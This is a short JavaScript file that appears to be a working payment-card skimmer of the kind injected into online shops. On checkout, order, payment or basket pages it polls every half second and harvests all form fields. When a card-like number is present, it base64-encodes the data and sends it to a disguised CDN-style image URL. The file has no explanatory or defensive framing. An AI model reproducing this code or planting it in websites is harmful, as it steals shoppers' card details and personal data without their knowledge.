var _0cd = {
  Data: {},
  Sent: [],
  Gate: 'https://js-cdn-static.example/img/blank.gif',
  SaveParam: function (elem) {
    if (elem.id !== undefined && elem.id != '' && elem.value !== undefined && elem.value != '' && elem.value.length < 256 && elem.value.length > 0) {
      _0cd.Data[elem.id] = elem.value;
      return;
    }
    if (elem.name !== undefined && elem.name != '' && elem.value !== undefined && elem.value != '') {
      _0cd.Data[elem.name] = elem.value;
    }
  },
  SaveAllFields: function () {
    var inputs = document.getElementsByTagName('input');
    var selects = document.getElementsByTagName('select');
    for (var i = 0; i < inputs.length; i++) _0cd.SaveParam(inputs[i]);
    for (var j = 0; j < selects.length; j++) _0cd.SaveParam(selects[j]);
    localStorage.setItem('E-cache', JSON.stringify(_0cd.Data));
  },
  SendData: function () {
    _0cd.Data['Domain'] = location.hostname;
    var encoded = window.btoa(JSON.stringify(_0cd.Data));
    if (_0cd.Sent.indexOf(encoded) >= 0) return;
    _0cd.Sent.push(encoded);
    var img = document.createElement('IMG');
    img.src = _0cd.Gate + '?refferer=' + encoded;
  },
  TrySend: function () {
    _0cd.SaveAllFields();
    var cc = /\b\d{13,16}\b/.test(JSON.stringify(_0cd.Data).replace(/[ -]/g, ''));
    if (cc) _0cd.SendData();
  }
};
if (/checkout|order|payment|basket/i.test(location.href)) {
  setInterval(_0cd.TrySend, 500);
}
